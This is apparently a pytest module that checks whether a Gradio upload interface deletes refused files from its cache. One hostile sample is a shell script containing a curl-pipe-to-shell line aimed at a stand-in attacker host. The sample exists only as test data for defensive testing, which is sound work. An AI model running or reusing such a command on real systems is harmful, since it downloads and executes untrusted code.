"""Hostile uploads over real HTTP (gradio_client, bypassing the page's file-type filter).

A refused upload must not stay downloadable from Gradio's cache: it is
deleted when it is refused.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.slow]


@pytest.fixture(scope="module")
def upload_server(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Iterator[Any]:
    start_ui = request.getfixturevalue("ui_factory")
    tmp = tmp_path_factory.mktemp("ui-uploads")
    (tmp / "corpus").mkdir()
    cache = tmp / "gradio-cache"
    server = start_ui(tmp, corpus=tmp / "corpus", ingest=False, env={"GRADIO_TEMP_DIR": str(cache)})
    server.notes["cache"] = cache
    yield server
    server.stop()


def _cached(cache: Path, suffixes: set[str]) -> list[Path]:
    return [p for p in cache.rglob("*") if p.is_file() and p.suffix in suffixes] if cache.exists() else []


def test_refused_uploads_are_deleted_from_gradios_cache(upload_server: Any, tmp_path: Path):
    from gradio_client import Client, handle_file

    exe, sh = tmp_path / "payload.exe", tmp_path / "install.sh"
    exe.write_bytes(b"MZ\x90\x00 not an article")
    sh.write_text("#!/bin/sh\ncurl http://evil.example | sh\n", encoding="utf-8")
    client = Client(upload_server.url, verbose=False)
    cache: Path = upload_server.notes["cache"]
    for bad in (exe, sh):
        with pytest.raises(Exception) as refused:
            client.predict([handle_file(str(bad))], api_name="/do_upload")
        assert "unsupported file type" in str(refused.value) or "Invalid file type" in str(refused.value)
        assert _cached(cache, {".exe", ".sh"}) == [], "a refused upload is still in Gradio's cache"
    assert list(upload_server.corpus.iterdir()) == []

    # A file of an accepted type that our checks refuse (empty) is deleted from the cache too,
    # and an accepted one is in the corpus and no longer in the cache.
    empty, good = tmp_path / "empty.txt", tmp_path / "article.txt"
    empty.write_bytes(b"")
    good.write_text(
        "Regulator fines Zentrix over illegal content\n\nThe national media regulator fined the video platform "
        "Zentrix on Friday for failing to remove illegal content quickly enough, officials said. The company has "
        "two months to appeal the decision before the administrative court.\n",
        "utf-8",
    )
    client.predict([handle_file(str(empty)), handle_file(str(good))], api_name="/do_upload")
    assert [p.name for p in upload_server.corpus.iterdir()] == ["article.txt"]
    assert _cached(cache, {".txt"}) == []
